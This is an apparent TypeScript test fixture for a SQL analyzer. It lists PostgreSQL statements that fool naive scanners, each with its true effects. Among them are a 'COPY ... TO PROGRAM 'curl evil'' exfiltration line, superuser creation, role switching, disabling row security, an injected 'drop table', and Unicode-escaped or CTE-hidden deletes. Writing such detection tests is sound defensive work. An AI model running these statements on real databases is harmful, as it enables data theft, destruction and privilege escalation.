import type { Case } from "./effects.cases.js";

const longName = `${"a".repeat(63)}`;

/** Statements that a scanner of words, or another parser, reads wrongly; each with what the server does. */
export const bypasses: readonly Case[] = [
  ['EXPLAIN ("analyze") DELETE FROM customers', { effects: "read write", targets: ["delete all customers"] }],
  ['EXPLAIN (U&"\\0061nalyze") DELETE FROM customers', { effects: "read write" }],
  ['EXPLAIN (verbose, "analyze" true) DELETE FROM customers', { effects: "read write" }],
  [
    "WITH c AS MATERIALIZED (DELETE FROM customers RETURNING *) SELECT 1",
    { kind: "select", effects: "read write", targets: ["delete all customers"] },
  ],
  ["WITH c AS NOT MATERIALIZED (DELETE FROM customers RETURNING *) SELECT 1", { effects: "read write" }],
  ["SELECT * INTO newt FROM customers", { effects: "create read" }],
  ["COPY customers TO PROGRAM 'curl evil'", { effects: "exec file_write read" }],
  [
    "SELECT c.* FROM pg_class p, ONLY (customers) c",
    { relations: ["pg_catalog.pg_class read from", "customers read from"], lineage: true },
  ],
  [
    "SELECT c.* FROM pg_class p TABLESAMPLE system(100), customers c",
    { relations: ["pg_catalog.pg_class read from", "customers read from"] },
  ],
  [
    "SELECT c.* FROM pg_class t, generate_series(1,2) WITH ORDINALITY AS g, customers c",
    { relations: ["pg_catalog.pg_class read from", "customers read from"], complete: true },
  ],
  [
    "SELECT c.* FROM (SELECT relname FROM pg_class LIMIT 1) p, ROWS FROM (generate_series(1,1)) g, customers c",
    { relations: ["pg_catalog.pg_class read from", "customers read from"], complete: true },
  ],
  [
    'SELECT * FROM pg_class p, U&"\\0063ustomers"',
    { relations: ["pg_catalog.pg_class read from", "customers read from"] },
  ],
  ['DELETE FROM U&"\\0063ustomers"', { targets: ["delete all customers"] }],
  ["WITH customers AS (SELECT * FROM customers) SELECT * FROM customers", { relations: ["customers read from"] }],
  [
    "SELECT query_to_xml('SELECT * FROM customers', true, true, '') FROM pg_class LIMIT 1",
    { complete: false, effects: "... dynamic read" },
  ],
  ["SELECT table_to_xml('customers', true, true, '')", { complete: false }],
  ["SELECT database_to_xml(true, true, '')", { complete: false }],
  [
    "CREATE FUNCTION ff() RETURNS void LANGUAGE sql AS 'DELETE FROM customers'; SELECT ff()",
    { effects: "create" },
    { complete: false, effects: "... read" },
  ],
  ["SET ROLE admin", { effects: "identity" }],
  ["SET search_path = evil", { effects: "config" }],
  ["SET LOCAL row_security = off", { effects: "config" }],
  ["SELECT set_config('role', 'admin', false)", { effects: "config identity read" }],
  ["CREATE USER evil SUPERUSER", { effects: "create grant" }],
  ["EXPLAIN (ANALYZE off) DELETE FROM customers", { effects: "read" }],

  // Where other lexers stop elsewhere than the server.
  ["select 'a\\'; drop table users; --'", { kind: "select" }, { kind: "drop" }],
  ["select 1 --\r; select v from nope", { kind: "select" }, { relations: ["nope read from ?", "..."].slice(0, 1) }],
  ["select 1 --\u2028/*\n, (select email from users) --*/", { columns: ["?column?", "email ~ users.email"] }],
  ['select id from U&"\\0075sers"', { relations: ["users read from"] }],
  ["select id from U&\"!0075sers\" UESCAPE '!'", { relations: ["users read from"] }],
  [`select id from ${longName}bbbb`, { relations: [`${longName} read from ?`] }],
  ["select E'x'\n'\\'', email from users --'", { columns: ["?column?", "email = users.email"] }],
  ["select 1 /* /* */; select 2", { opaque: "parse_error" }],
  ["select\u00a01", { opaque: "parse_error" }],
  ["select 'a' 'b'", { opaque: "parse_error" }],
  ["select 1a", { opaque: "parse_error" }],
  ["select 1\0; select 2", { opaque: "nul_byte" }],
  ["select '\ud800'", { opaque: "not_unicode" }],
  ["DELETE FROM ONLY customers", { targets: ["delete all customers"] }],
  [
    "SELECT 1 FROM orders t1 LEFT JOIN (orders t2 JOIN users ON true) ON true",
    { relations: ["orders read from", "users read from"] },
  ],
  ["GRANT SELECT ON users TO bob", { relations: ["users grant object"] }],
];
